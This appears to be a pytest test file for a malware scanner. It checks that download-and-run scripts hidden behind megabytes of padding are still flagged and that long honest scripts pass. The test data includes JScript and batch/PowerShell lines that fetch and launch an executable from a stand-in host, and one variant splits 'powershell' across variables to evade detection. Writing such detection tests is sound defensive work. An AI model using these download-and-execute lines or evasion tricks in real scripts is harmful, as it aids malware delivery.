"""Scripts that are blown up so that scanners read their begin alone, and honest ones that are as long."""

from __future__ import annotations

import random

import pytest

from safecare.examine.api import Part, Verdicts
from safecare.examine.engine import Engine
from safecare.examine.types import recognise

ENGINE = Engine()
SCRIPT = (
    b'var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");'
    b'x.open("GET","http://e.invalid/a");s.Run("cmd /c echo 1",0,false);\n'
)
BATCH = b'@echo off\r\npowershell -nop -w hidden -c "iwr http://e.invalid/a -o a.exe; Start-Process a.exe"\r\n'
MEGABYTE = 1 << 20
LIBRARY = b'module.exports = {};\nfunction a(b) { return document.getElementById(b); }\nvar c = "%d";\n'
PADDING = {
    "blanks": (SCRIPT, "a.js", b" " * 5 * MEGABYTE),
    "comments": (BATCH, "a.bat", b":: visiting hours\r\n" * 250_000),
    "notes": (SCRIPT, "a.js", b"// visiting hours\n" * 250_000),
    "a library": (SCRIPT, "a.js", LIBRARY * 60_000),
    "numbers": (SCRIPT, "a.js", b"".join(b"var a%d=%d;\n" % (one, one * 7919) for one in range(150_000))),
}


@pytest.mark.parametrize("name", PADDING)
@pytest.mark.parametrize("where", ["head", "middle", "tail"])
def test_a_padded_script_is_found_wherever_it_acts(name: str, where: str) -> None:
    script, file, padding = PADDING[name]
    half = padding.rfind(b"\n", 0, len(padding) // 2) + 1
    raw = {
        "head": script + padding,
        "middle": padding[:half] + b"\n" + script + padding[half:],
        "tail": padding + b"\n" + script,
    }[where]
    found = ENGINE.judge(raw, file)
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)
    told = {one.rule for one in found.findings}
    assert "script.fetches" in told
    assert ("script.padded" in told) == (name in ("blanks", "comments", "notes"))


def test_honest_scripts_of_that_length_are_clean() -> None:
    noise = random.Random(1).randbytes(12 * MEGABYTE)
    for raw, name in (
        (LIBRARY * 60_000, "a.js"),
        (b"var d=[" + b"1.5,2.25,\n" * 400_000 + b"];", "data.js"),
        (b"#!/bin/sh\ntail -n +3 $0 | tar x\nexit\n" + noise, "install.run"),
    ):
        assert ENGINE.judge(raw, name).verdict is Verdicts.CLEAN, name


def test_a_batch_file_may_set_its_words_far_before_it_uses_them() -> None:
    words = b"@set a=power\r\n@set b=shell\r\n@set c=iwr\r\n@set d=Start-Process\r\n"
    use = b"%a%%b% -w hidden -c %c% http://e.invalid/a -o a.exe; %d% a.exe\r\n"
    raw = words + b"".join(b"set x%d=%d\r\n" % (one, one) for one in range(5000)) + b"rem 1\r\n" * 400_000 + use
    assert "script.fetches" in {one.rule for one in ENGINE.judge(raw, "a.cmd").findings}


@pytest.mark.timeout(60)
def test_many_short_comments_before_a_page_take_no_time() -> None:
    """Nine groups of them were tried in all ways: 6 kB never ended."""
    assert recognise(Part(b"<!-- a -->\n" * 500 + b"<html>", "a.html"))[0] == "html"
